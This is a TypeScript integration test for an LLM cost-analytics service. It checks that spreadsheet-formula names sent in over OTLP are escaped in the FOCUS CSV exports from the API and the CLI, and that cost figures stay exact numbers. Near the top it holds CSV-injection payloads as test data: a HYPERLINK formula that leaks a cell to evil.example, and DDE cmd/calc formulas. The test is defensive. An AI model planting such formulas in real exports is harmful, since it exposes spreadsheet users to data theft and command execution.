// CSV injection through the whole product: spans whose tenant, route, feature and model are
// spreadsheet formulas go in over OTLP; the FOCUS CSV from the API and from the CLI's file
// export carries them as text (a leading '), while every cost stays a number that sums exactly.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Decimal } from 'decimal.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportFocusToFile } from '../../src/analytics/export/focus-export.js';
import { parseConfig } from '../../src/shared/config.js';
import { FINOPS, GEN_AI } from '../../src/shared/semconv.js';
import { eventually, startTestRuntime, type TestRuntime } from '../helpers/runtime.js';
import { postJson, requestJson, spanJson } from '../helpers/otlp.js';
import { parseCsv } from './analytics-finops-seed.js';

const TENANT = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")';
const ROUTE = "+cmd|' /C calc'!A0";
const FEATURE = '@SUM(1+1)*cmd|"/C calc"!A0';
// Model names are normalized (lower case, provider prefixes cut at '/'): keep it that shape.
const MODEL = "-2+3+cmd|' -c calc'!a0";
const FORMULA = /^[=+\-@\t\r]/;

let t: TestRuntime;
const from = new Date(Math.floor(Date.now() / 3_600_000) * 3_600_000 - 3_600_000);
const to = new Date(from.getTime() + 3 * 3_600_000);

beforeAll(async () => {
  t = await startTestRuntime();
  const call = (tenant: string, model: string) =>
    spanJson({
      startMs: Date.now() - 60_000,
      attributes: {
        [GEN_AI.OPERATION_NAME]: 'chat',
        [GEN_AI.PROVIDER_NAME]: 'openai',
        [GEN_AI.REQUEST_MODEL]: model,
        [GEN_AI.USAGE_INPUT_TOKENS]: 1_000,
        [GEN_AI.USAGE_OUTPUT_TOKENS]: 200,
        [FINOPS.TENANT]: tenant,
        [FINOPS.ROUTE]: ROUTE,
        [FINOPS.FEATURE]: FEATURE,
      },
    });
  const res = await postJson(
    t.otlpUrl,
    requestJson([call(TENANT, MODEL), call('acme', 'gpt-4o'), call('acme', 'gpt-4o')]),
  );
  expect(res.status).toBe(200);
  await eventually(
    () => exportCsv(),
    (rows) =>
      rows.some((r) => r.x_Tenant === `'${TENANT}`) && rows.some((r) => r.x_Tenant === 'acme'),
  );
});
afterAll(async () => {
  await t.runtime.stop();
});

type Row = Record<string, string>;
const toRows = (text: string): Row[] => {
  const [header = [], ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? ''])));
};

async function exportCsv(): Promise<Row[]> {
  const res = await fetch(
    `${t.apiUrl}/v1/export/focus?from=${from.toISOString()}&to=${to.toISOString()}&format=csv`,
  );
  expect(res.status).toBe(200);
  return toRows(await res.text());
}

function checkRows(rows: Row[]): void {
  const hostile = rows.filter((r) => r.x_Tenant === `'${TENANT}`);
  expect(hostile.length).toBeGreaterThan(0);
  for (const r of hostile) {
    expect(r.x_Route).toBe(`'${ROUTE}`);
    expect(r.x_Feature).toBe(`'${FEATURE}`);
    expect(r.x_Model).toBe(`'${MODEL}`);
  }
  // No cell anywhere opens like a formula, except numbers.
  for (const r of rows)
    for (const [column, cell] of Object.entries(r))
      if (FORMULA.test(cell))
        expect(cell, `${column} = ${cell}`).toMatch(/^-\d+(\.\d+)?(e-?\d+)?$/);
  // Costs stay numbers, and the split rows of the ordinary tenant sum to its charge.
  const acme = rows.filter((r) => r.x_Tenant === 'acme');
  expect(acme.length).toBeGreaterThan(1);
  const sum = acme.reduce((s, r) => s.plus(new Decimal(r.EffectiveCost!)), new Decimal(0));
  expect(sum.toString()).toBe(new Decimal(acme[0]!.x_ChargeEffectiveCost!).toString());
  expect(sum.gt(0)).toBe(true);
}

describe('FOCUS CSV with formula-shaped names', () => {
  it('escapes them in the API export and keeps the numbers', async () => {
    checkRows(await exportCsv());
  });

  it('escapes them in the CLI file export too', async () => {
    const out = join(t.dataDir, 'focus-injection.csv');
    await exportFocusToFile(
      t.runtime.storage,
      { from, to, format: 'csv', out },
      parseConfig({}).finops,
    );
    checkRows(toRows(readFileSync(out, 'utf8')));
  });
});
